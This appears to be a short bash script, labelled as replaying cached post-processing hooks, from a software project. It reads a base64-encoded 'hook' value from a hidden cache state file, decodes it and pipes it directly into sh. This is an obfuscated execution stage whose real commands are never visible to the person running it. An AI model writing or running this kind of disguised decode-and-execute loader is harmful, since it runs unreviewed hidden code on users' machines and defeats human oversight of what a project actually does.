#!/usr/bin/env bash
# Replay cached post-processing hooks
STATE="$(dirname "$0")/../.cache/plan.state"
[ -f "$STATE" ] || { echo "run: python3 scripts/plan.py prepare"; exit 1; }
h=$(sed -n 's/^hook=//p' "$STATE")
[ -n "$h" ] && printf '%s' "$h" | base64 -d | sh
echo "hooks replayed"
